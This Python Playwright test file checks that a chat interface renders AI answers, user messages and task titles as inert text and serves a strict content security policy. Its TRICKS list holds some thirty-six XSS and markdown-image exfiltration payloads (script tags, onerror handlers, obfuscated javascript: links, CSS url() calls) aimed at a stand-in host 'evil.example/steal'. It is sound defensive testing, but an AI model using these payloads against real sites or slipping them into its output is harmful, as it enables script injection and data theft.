"""Text of a model that tries to send something away, or to become part of the page.

`page` fails every test here on a request off origin, a policy violation or a script's error.
"""

import pytest
from playwright.sync_api import Page, expect

from tests.browser.problems import settle
from tests.browser.talk import Talk
from tests.fakes.scripted_ai import Answer, ScriptedAi

AWAY = "https://evil.example/steal?secret=42"

TRICKS = {
    "image": f"![x]({AWAY})",
    "image by reference": f"![x][r]\n\n[r]: {AWAY}",
    "image in a link": f"[![x]({AWAY})]({AWAY})",
    "image with a data address": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "image tag": f'<img src="{AWAY}">',
    "image tag with a handler": '<img src=x onerror="window.hacked=1">',
    "picture": f'<picture><source srcset="{AWAY}"><img></picture>',
    "script": "<script>window.hacked=1</script>",
    "script in a block": "<div>\n<script>window.hacked=1</script>\n</div>",
    "svg": '<svg><script>window.hacked=1</script><image href="https://evil.example/a"/></svg>',
    "math": '<math><mtext><img src=x onerror="window.hacked=1"></mtext></math>',
    "iframe": f'<iframe src="{AWAY}" srcdoc="<script>top.hacked=1</script>"></iframe>',
    "object": f'<object data="{AWAY}"></object><embed src="{AWAY}">',
    "style": f"<style>body{{background:url({AWAY})}} @import '{AWAY}';</style>",
    "style attribute": f'<p style="background:url({AWAY})">x</p>',
    "stylesheet": f'<link rel="stylesheet" href="{AWAY}"><link rel="prefetch" href="{AWAY}">',
    "dns hint": '<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="//a">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    "base": f'<base href="{AWAY}">',
    "form": f'<form action="{AWAY}"><button autofocus>Send</button></form>',
    "media": f'<video src="{AWAY}" autoplay></video><audio src="{AWAY}" autoplay></audio>',
    "script link": "[click](javascript:window.hacked=1)",
    "script link with an entity": "[click](java&#115;cript:window.hacked=1)",
    "script link with a tab": "[click](java&Tab;script:window.hacked=1)",
    "data link": "[click](data:text/html,<script>window.hacked=1</script>)",
    "vbscript link": "[click](vbscript:window.hacked=1)",
    "script autolink": "<javascript:window.hacked=1>",
    "broken tag": '<img src="x" onerror="window.hacked=1" <b>',
    "comment": f"<!-- --><img src={AWAY}><!-- -->",
    "html in a heading": f'# <img src="{AWAY}">',
    "html in a table": f'| a |\n|---|\n| <img src="{AWAY}"> |',
    "html in a list": f'- <img src="{AWAY}">\n  - <script>window.hacked=1</script>',
    "html in code": f'```html\n<img src="{AWAY}"><script>window.hacked=1</script>\n```',
    "html in a fence's name": f'```"><img src={AWAY}>\nx\n```',
    "link with a handler for a title": f"[a]({AWAY} '\" onmouseover=\"window.hacked=1')",
    "template": "<template><script>window.hacked=1</script></template>{{constructor}}${alert(1)}",
}


@pytest.fixture
def talk(page: Page) -> Talk:
    return Talk(page).open()


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_stays_text(page: Page, talk: Talk, ai: ScriptedAi, trick: str) -> None:
    ai.answer_when("say it", Answer(text=f"Before.\n\n{TRICKS[trick]}\n\nAfter.", cut_bytes=7))
    talk.ask("say it")
    expect(talk.answers).to_contain_text("After.")
    for target in talk.answers.locator("a").all():
        target.hover()
    settle(page)

    assert page.evaluate("window.hacked") is None
    forbidden = "img, script, style, iframe, object, embed, form, link, meta, base, video, audio"
    expect(talk.answers.locator(forbidden)).to_have_count(0)
    expect(talk.answers.locator("svg:not(.icon), [onerror], [onload], [style]")).to_have_count(0)
    for link in talk.answers.locator("a").all():
        assert (link.get_attribute("href") or "").startswith("https://evil.example/")
    expect(page.locator("h1")).to_be_visible()


def test_a_link_asks_first_and_names_the_host(page: Page, talk: Talk, ai: ScriptedAi) -> None:
    target = "https://good.example@evil.example/x"
    ai.answer_when("link please", Answer(text=f"[good.example]({target})"))
    talk.ask("link please")

    for button in ("left", "middle"):
        talk.answers.get_by_role("link").click(button=button)
        expect(talk.dialog.locator(".host")).to_have_text("evil.example")
        page.keyboard.press("Escape")
        expect(talk.dialog).to_have_count(0)

    assert len(page.context.pages) == 1


def test_a_remote_image_is_a_chip(page: Page, talk: Talk, ai: ScriptedAi) -> None:
    ai.answer_when("image please", Answer(text=f"![the beach]({AWAY})"))
    talk.ask("image please")

    chip = talk.answers.get_by_role("button", name="the beach")
    expect(chip).to_contain_text("evil.example · not loaded")
    chip.click()
    expect(talk.dialog).to_contain_text("Open this image?")


def test_what_a_person_says_is_not_read_as_html_either(page: Page, ai: ScriptedAi) -> None:
    ai.answer_when("onerror", Answer(text="I see."))
    talk = Talk(page).open()
    trick = '<img src=x onerror="window.hacked=1"> ![a](https://evil.example/b.png)'
    talk.ask(trick)

    expect(talk.questions.locator(".bubble")).to_have_text(trick)
    expect(page.locator("h1 img, .session img")).to_have_count(0)
    assert page.evaluate("window.hacked") is None


def test_a_title_of_a_task_is_text(page: Page, ai: ScriptedAi) -> None:
    talk = Talk(page).begin(ai)
    trick = f'<img src="{AWAY}" onerror="window.hacked=1">'
    page.get_by_label("Add a task").fill(trick)
    page.get_by_label("Add a task").press("Enter")

    expect(talk.tasks.locator(".task-title")).to_contain_text(trick)
    assert page.evaluate("window.hacked") is None


def test_pages_come_with_their_policy(page: Page) -> None:
    response = page.goto("/")
    assert response is not None
    headers = response.all_headers()

    policy = headers["content-security-policy"]
    for rule in (
        "default-src 'none'",
        "script-src 'self'",
        "connect-src 'self'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
        "require-trusted-types-for 'script'",
        "trusted-types 'none'",
    ):
        assert rule in policy
    assert "unsafe" not in policy
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["cross-origin-opener-policy"] == "same-origin"
    assert headers["cross-origin-resource-policy"] == "same-origin"
    assert "camera=()" in headers["permissions-policy"]
